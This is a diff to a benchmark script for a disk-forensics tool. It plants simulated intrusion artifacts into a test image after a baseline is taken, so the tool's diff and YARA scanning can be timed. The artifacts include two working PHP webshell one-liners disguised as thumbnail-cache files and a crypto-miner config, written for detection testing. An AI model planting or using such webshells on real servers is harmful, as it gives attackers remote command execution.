@@ -44,9 +44,49 @@ for i in range(large):
         for k in range(large_mb):
             f.write(os.urandom(1 << 20) if k == 0 else blob[(k * 1048573) % (32 << 20):][: 1 << 20])
 PY
-umount "$MNT"
+unmount_all() {  # and wait for the loop device to let go of the image
+  umount "$MNT"; sync
+  while losetup -j "$img" | grep -q .; do sleep 0.2; done
+}
+unmount_all
+# the known-good baseline is taken now; then what an intrusion leaves behind:
+# CHANGED small files rewritten, NEW files added (webshells under the web
+# root, a miner and its config, tools of 1-4 MiB), REMOVED files deleted —
+# so the default examination really diffs, and YARA (scope "changed") reads
+# every new and changed file
+CHANGED=${CHANGED:-300} NEW=${NEW:-200} REMOVED=${REMOVED:-50}
+"$SG" forensics baseline --device "$img" --out "$W/baseline.jsonl" >/dev/null 2>&1
+mount -o loop "$img" "$MNT"
+/usr/bin/python3 - "$MNT" "$SMALL" "$CHANGED" "$NEW" "$REMOVED" <<'PY'
+import os, random, sys
+root, small, changed, new, removed = sys.argv[1], *map(int, sys.argv[2:])
+r = random.Random(11)
+victims = r.sample(range(small), changed + removed)
+for i in victims[:changed]:
+    with open(f"{root}/usr/share/d{i % 200:03d}/f{i:06d}", "ab") as f:
+        f.write(os.urandom(r.choice((50, 700, 5000))))
+for i in victims[changed:]:
+    os.unlink(f"{root}/usr/share/d{i % 200:03d}/f{i:06d}")
+os.makedirs(f"{root}/var/www/html/uploads", exist_ok=True)
+os.makedirs(f"{root}/opt/.cache/bin", exist_ok=True)
+shells = ['<?php system($_GET["c"]); ?>\n', '<?php eval(base64_decode($_REQUEST["q"])); ?>\n']
+for k in range(new):
+    if k % 10 == 0:      # 1-4 MiB tools and a miner
+        with open(f"{root}/opt/.cache/bin/tool{k:03d}", "wb") as f:
+            f.write(os.urandom(r.randrange(1 << 20, 4 << 20)))
+    elif k % 25 == 1:    # webshells
+        with open(f"{root}/var/www/html/uploads/img{k:03d}.php", "w") as f:
+            f.write("<?php /* thumbnail cache */ ?>\n" * r.randrange(1, 50) + shells[k % 2])
+    else:                # uploads: images and pages
+        with open(f"{root}/var/www/html/uploads/up{k:03d}.jpg", "wb") as f:
+            f.write(os.urandom(r.choice((2000, 30000, 200000))))
+with open(f"{root}/opt/.cache/bin/config.json", "w") as f:
+    f.write('{"pools":[{"url":"stratum+tcp://pool.example.net:3333","user":"4'
+            + "A" * 94 + '"}],"algo":"rx/0","donate-level":1}\n')
+PY
+unmount_all
 bytes=$(stat -c %s "$img")
-files=$((SMALL + LARGE))
+files=$((SMALL + LARGE - REMOVED + NEW + 1))
 echo "warming the page cache ..." >&2
 cat "$img" > /dev/null
 
@@ -73,11 +113,19 @@ t_dgst=999999 t_def=999999
 for i in 1 2; do
   d=$(t openssl dgst -sha256 "$img")
   rm -rf "$W/od"
-  e=$(t "$SG" forensics examine --device "$img" --baseline "$W/o1/bench.img/manifest.jsonl" --out "$W/od")
+  e=$(t "$SG" forensics examine --device "$img" --baseline "$W/baseline.jsonl" --out "$W/od")
   t_dgst=$(echo "if ($d < $t_dgst) $d else $t_dgst" | bc -l)
   t_def=$(echo "if ($e < $t_def) $e else $t_def" | bc -l)
 done
 def_status=$(/usr/bin/python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['status'])" "$W/od/report.json")
+# what the default examination found and scanned against the baseline
+def_work=$(/usr/bin/python3 -c "
+import json, sys
+ev = json.load(open(sys.argv[1]))['evidence'][0]
+c = ev['summary']['by_class']; y = ev['yara']
+print('findings %d (%s); yara %s: %d files scanned, %d bytes, %d matched' % (
+    ev['summary']['findings'], ', '.join('%s %d' % kv for kv in sorted(c.items())),
+    y['status'], y['scanned'], y['bytes'], len(y['matches'])))" "$W/od/report.json")
 fs() { /usr/bin/python3 -c "import json,sys; f=json.load(open(sys.argv[1]))['evidence'][0]['filesystems'][0]; print(f['$2'])" "$1"; }
 w2=$(fs "$W/o1/report.json" seconds) w1=$(fs "$W/o2/report.json" seconds)
 hashed=$(fs "$W/o1/report.json" bytes_hashed) nfiles=$(fs "$W/o1/report.json" files_hashed)
@@ -98,7 +146,7 @@ printf '%-46s %10.2f %12s %10s\n' "ssrfguard walk+hash, 2 workers (libtsk, no mo
 printf '%-46s %10.2f %12s %10s\n' "ssrfguard walk+hash, 1 worker" "$w1" "$(rate "$nfiles" "$w1")" "$(rate "$hashed/$MB" "$w1")"
 printf '%-46s %10.2f %12s %10s\n' "fiwalk -O -x (libtsk walk, MD5+SHA1)" "$t_fi" "$(rate "$files" "$t_fi")" "$(rate "$hashed/$MB" "$t_fi")"
 printf '%-46s %10.2f %12s %10s\n' "hashdeep -c sha256 -r (ro mount)" "$t_hd" "$(rate "$files" "$t_hd")" "$(rate "$hashed/$MB" "$t_hd")"
-printf '%-46s %10.2f %12s %10s\n' "ssrfguard acquisition hash (whole + windows)" "$acq" - "$(rate "$bytes/$MB" "$acq")"
+printf '%-46s %10.2f %12s %10s\n' "ssrfguard acquisition hash (whole device)" "$acq" - "$(rate "$bytes/$MB" "$acq")"
 printf '%-46s %10.2f %12s %10s\n' "sha256sum of the raw image" "$t_sha" - "$(rate "$bytes/$MB" "$t_sha")"
 printf '%-46s %10s %12s %10s\n' "openssl speed sha256, one core, 1 MiB blocks" - - "$(rate "$one" $MB)"
 printf '%-46s %10.2f %12s\n' "ssrfguard examine, no acquisition, end to end" "$t_e2e" "$(rate "$nfiles" "$t_e2e")"
@@ -109,6 +157,7 @@ printf '\nratios: files/s vs fiwalk %sx walk phase, %sx whole process (target >=
   "$(echo "scale=2; ($hashed / $w2) / $one" | bc -l)"
 printf 'whole examination, default flags + baseline (%s): %.2f s; openssl dgst -sha256 of the device: %.2f s; ratio %sx (target <= 1.2x)\n' \
   "$def_status" "$t_def" "$t_dgst" "$(echo "scale=2; $t_def / $t_dgst" | bc -l)"
+printf '  against the baseline: %s\n' "$def_work"
 printf 'peak RSS of examine: %s KiB\n' "$rss"
 printf 'CPU seconds (user+sys): ssrfguard examine %s, fiwalk %s (%sx); ssrfguard hashes %s MB per CPU-second (one core of SHA-256: %s MB/s)\n' \
   "$c_sg" "$c_fi" "$(echo "scale=1; $c_fi / $c_sg" | bc -l)" "$(rate "$hashed/$MB" "$c_sg")" "$(rate "$one" $MB)"
